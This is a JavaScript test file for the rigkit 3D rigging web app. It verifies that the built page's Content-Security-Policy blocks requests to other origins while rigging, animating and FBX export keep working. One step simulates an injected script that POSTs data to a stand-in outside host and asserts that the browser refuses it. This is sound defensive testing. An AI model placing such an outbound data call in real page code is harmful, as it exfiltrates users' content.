// The page's Content-Security-Policy (build/csp.mjs, set by trunk's post-build hook): the
// browser itself refuses to reach another origin from the page, while rigging, animating and
// exporting work under it. Headless Chromium on the built page (dist/), CPU backend.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';

import { readData } from './data.mjs';
import { serve } from './server.mjs';
import { launch, openApp, toBase64 } from './browser.mjs';

const here = path.dirname(fileURLToPath(import.meta.url));
const dist = process.env.RIGKIT_DIST || path.join(here, '..', '..', 'dist');

let server;
before(async () => { server = await serve(dist); });
after(async () => server && server.close());

test('the built page carries a strict CSP: another origin is refused, rigging, animating and exporting work', async () => {
  const html = fs.readFileSync(path.join(dist, 'index.html'), 'utf8');
  const policy = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]*)">/);
  assert.ok(policy, 'dist/index.html has no Content-Security-Policy');
  for (const directive of ["default-src 'self'", "connect-src 'self'", "object-src 'none'", "style-src 'self'"]) {
    assert.ok(policy[1].includes(directive), `${directive} missing from: ${policy[1]}`);
  }
  assert.ok(!policy[1].includes('unsafe-inline') && !/'unsafe-eval'/.test(policy[1]), policy[1]);

  const browser = await launch({ webgpu: false });
  try {
    const { page, errors, requests } = await openApp(browser.context, server.url);
    // A script on the page (as an injected one would) tries to send data elsewhere.
    const attempt = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener('securitypolicyviolation', (e) => violations.push(e.violatedDirective));
      let outcome;
      try {
        await fetch('http://127.0.0.2:9/upload', { method: 'POST', body: 'the character' });
        outcome = 'sent';
      } catch (e) {
        outcome = `refused: ${e.name}`;
      }
      await new Promise((r) => setTimeout(r, 100));
      return { outcome, violations };
    });
    assert.equal(attempt.outcome, 'refused: TypeError');
    assert.deepEqual(attempt.violations, ['connect-src']);

    // Under the policy the whole path works: rig (worker, helpers, wasm), animate, export.
    const rig = await page.evaluate(async (b64) => {
      const bytes = Uint8Array.from(atob(b64), (c) => c.charCodeAt(0));
      return window.rigkit.rig(bytes, 'CesiumMan.glb', { template: 'auto' });
    }, toBase64(readData('eval/CesiumMan.glb').bytes));
    assert.ok(rig.jointCount >= 20, JSON.stringify(rig));
    const clip = await page.evaluate(() => window.rigkit.animate('walk'));
    assert.ok(Number.isInteger(clip.index) && clip.duration > 0, JSON.stringify(clip));
    const fbx = await page.evaluate(async () => {
      const bytes = await window.rigkit.exportAs('fbx');
      return new TextDecoder().decode(bytes.slice(0, 18));
    });
    assert.equal(fbx, 'Kaydara FBX Binary');

    assert.deepEqual(requests.filter((u) => !u.startsWith(server.url)), []);
    // The one refusal is the deliberate one above.
    assert.deepEqual(errors.filter((e) => !e.includes('127.0.0.2')), []);
  } finally {
    await browser.close();
  }
});
